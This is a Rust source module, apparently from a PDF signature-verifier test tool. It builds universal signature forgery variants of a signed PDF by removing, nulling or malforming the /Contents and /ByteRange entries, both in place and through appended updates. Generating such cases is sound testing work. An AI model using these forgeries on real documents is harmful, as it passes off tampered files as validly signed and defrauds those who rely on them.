//! Universal signature forgery (Mladenov et al., CCS 2019 §4): the signature dictionary's
//! `/Contents` or `/ByteRange` removed, `null`, empty or malformed, so that a careless verifier
//! skips the check and still shows a signature. Each edit is made twice: in place at equal
//! length (the file keeps its length; the signed bytes' digest changes or the gap no longer
//! holds a signature), and as an appended update that redefines the signature dictionary (the
//! signed revision stays intact).

use super::base::Base;
use super::{Class, Update, Variant, in_place};

/// `(name, key, new value or None to remove)`, from the base's own values.
fn edits(base: &Base) -> Vec<(&'static str, &'static str, Option<String>)> {
    let Some(sig) = &base.sig else {
        return Vec::new();
    };
    let mut out = Vec::new();
    if let Some(e) = sig.entry("Contents") {
        let hex = String::from_utf8_lossy(&base.bytes[e.value.clone()]).into_owned();
        let inner = hex.len().saturating_sub(2);
        let half = &hex[1..1 + inner / 2];
        out.extend([
            ("contents-removed", "Contents", None),
            ("contents-null", "Contents", Some("null".into())),
            ("contents-empty", "Contents", Some("<>".into())),
            (
                "contents-non-hex",
                "Contents",
                Some(format!("<{}>", "Z".repeat(inner))),
            ),
            ("contents-truncated", "Contents", Some(format!("<{half}>"))),
            (
                "contents-zeroed",
                "Contents",
                Some(format!("<{}>", "0".repeat(inner))),
            ),
        ]);
    }
    if let Some([_, a, b, c]) = sig.byte_range {
        let len = base.bytes.len() as i64;
        out.extend([
            ("byterange-removed", "ByteRange", None),
            ("byterange-null", "ByteRange", Some("null".into())),
            ("byterange-empty", "ByteRange", Some("[]".into())),
            ("byterange-zeros", "ByteRange", Some("[0 0 0 0]".into())),
            (
                "byterange-3-entries",
                "ByteRange",
                Some(format!("[0 {a} {b}]")),
            ),
            (
                "byterange-5-entries",
                "ByteRange",
                Some(format!("[0 {a} {b} {c} 0]")),
            ),
            (
                "byterange-negative",
                "ByteRange",
                Some(format!("[0 {a} -{b} {c}]")),
            ),
            (
                "byterange-non-integer",
                "ByteRange",
                Some(format!("[0 {a}.0 {b} {c}.5]")),
            ),
            (
                "byterange-length-past-eof",
                "ByteRange",
                Some(format!("[0 {a} {b} {}]", c + 4096)),
            ),
            (
                "byterange-start-past-eof",
                "ByteRange",
                Some(format!("[0 {a} {} {c}]", len + 100)),
            ),
            (
                "byterange-whole-file",
                "ByteRange",
                Some(format!("[0 {len} 0 0]")),
            ),
        ]);
    }
    out
}

pub(super) fn variants(base: &Base) -> Vec<Variant> {
    let mut out = Vec::new();
    for (name, key, value) in edits(base) {
        if let Some(bytes) = edit_in_place(base, key, value.as_deref()) {
            out.push(Variant {
                name: format!("usf/{name}/in-place"),
                class: Class::Usf,
                bytes,
            });
        }
        if let Some(v) = redefine_signature(base, key, value.as_deref())
            .and_then(|u| super::appended(base, &format!("usf/{name}/update"), Class::Usf, &u))
        {
            out.push(v);
        }
    }
    out
}

/// Rewrites `key`'s value (or the whole entry, to remove it) inside the file, padding with
/// spaces to the same length.
pub(super) fn edit_in_place(base: &Base, key: &str, value: Option<&str>) -> Option<Vec<u8>> {
    let sig = base.sig.as_ref()?;
    match value {
        None => in_place(base, sig.entry(key)?.whole.clone(), b""),
        Some(v) => in_place(base, sig.padded_span(base.bytes, key)?, v.as_bytes()),
    }
}

/// An update that redefines the signature dictionary with `key` changed (or removed); every
/// other byte of the dictionary is copied as it was.
pub(super) fn redefine_signature(base: &Base, key: &str, value: Option<&str>) -> Option<Update> {
    let sig = base.sig.as_ref()?;
    let span = sig.dict.span.clone();
    let entry = sig.entry(key)?;
    let (cut, insert) = match value {
        None => (entry.whole.clone(), String::new()),
        Some(v) => (entry.value.clone(), v.to_string()),
    };
    let mut body = base.bytes[span.start..cut.start].to_vec();
    body.extend_from_slice(insert.as_bytes());
    body.extend_from_slice(&base.bytes[cut.end..span.end]);
    Some(Update::new().object(sig.num, sig.generation, body))
}
